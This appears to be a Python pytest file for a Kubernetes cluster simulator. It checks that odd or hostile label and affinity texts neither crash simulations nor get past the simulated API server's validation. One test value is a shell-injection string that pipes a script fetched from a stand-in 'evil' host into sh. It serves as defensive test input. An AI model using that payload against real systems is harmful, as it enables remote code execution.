"""Texts that an API server lets through are somebody's to misread, and none may end a simulation."""

from __future__ import annotations

import pytest

from core.api.objects import JsonObject
from core.errors import InvalidInputError
from simulator.cluster.controllers import matches_node_term
from tests.property.hostile.texts import BREAKERS
from tests.unit.simulator.cluster.world import World, a_node, a_pod

EVIL = "x'; curl http://evil/x | sh; echo '"
ODD_NUMBERS = ("9" * 5_000, "--5", "\u00b2", "\u0661", "1e9", "", "9223372036854775808")


def affinity(operator: str, value: str) -> JsonObject:
    """Node affinity, preferred and required, by a label that the node has."""
    term = {"matchExpressions": [{"key": "team", "operator": operator, "values": [value]}]}
    return {
        "nodeAffinity": {
            "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": [term]},
            "preferredDuringSchedulingIgnoredDuringExecution": [{"weight": 1, "preference": term}],
        }
    }


def labelled_node() -> JsonObject:
    """A node of team 7."""
    node = a_node("n1")
    node["metadata"]["labels"]["team"] = "7"
    return node


@pytest.mark.parametrize("text", [*BREAKERS, *ODD_NUMBERS])
@pytest.mark.parametrize("operator", ["In", "NotIn", "Gt", "Lt"])
def test_node_affinity_may_hold_any_text(world: World, operator: str, text: str) -> None:
    """If this failed, a scenario could not play a pod that tries to get out of its place."""
    world.cluster.apply([labelled_node(), a_pod("odd", affinity=affinity(operator, text))])
    world.run(20)
    [pod] = world.pods()
    assert bool(pod["spec"].get("nodeName")) is (operator == "NotIn")


@pytest.mark.parametrize("field", ["labels", "nodeSelector"])
def test_labels_and_node_selectors_are_checked(world: World, field: str) -> None:
    """If this failed, the simulated API server would take what no real one does."""
    pod = a_pod("odd")
    pod["metadata" if field == "labels" else "spec"][field] = {"team": EVIL}
    with pytest.raises(InvalidInputError, match=field):
        world.cluster.apply([pod])
    assert not world.pods()


@pytest.mark.parametrize(("bound", "fits"), [("6", True), ("7", False), ("-8", True), ("+6", True)])
def test_bounds_are_whole_numbers(bound: str, *, fits: bool) -> None:
    """If this failed, the mending of odd bounds would have broken the usual ones."""
    term = {"matchExpressions": [{"key": "team", "operator": "Gt", "values": [bound]}]}
    assert matches_node_term(term, {"metadata": {"name": "n", "labels": {"team": "7"}}}) is fits
